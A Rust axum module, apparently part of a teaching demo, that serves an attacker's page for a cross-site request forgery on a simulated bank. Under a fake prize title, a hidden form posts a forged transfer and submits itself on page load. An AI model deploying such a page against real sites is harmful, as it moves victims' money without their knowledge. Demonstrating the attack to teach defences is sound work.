//! The attacker's site: one page whose form posts a transfer to the bank and submits
//! itself as soon as the page loads.

use axum::Router;
use axum::response::Html;
use axum::routing::get;

use crate::model::{BANK, FORGED_TRANSFER};

/// `GET /`: the page the victim is lured to (a link in an email, an ad, a forum post).
pub fn router() -> Router {
    Router::new().route("/", get(page))
}

async fn page() -> Html<String> {
    let (to, amount) = FORGED_TRANSFER;
    Html(format!(
        r#"<!doctype html>
<html><head><title>You won a prize!</title></head>
<body onload="document.forms[0].submit()">
<h1>Claiming your prize...</h1>
<form action="{BANK}/transfer" method="post">
  <input type="hidden" name="to" value="{to}">
  <input type="hidden" name="amount" value="{amount}">
</form>
</body></html>
"#
    ))
}
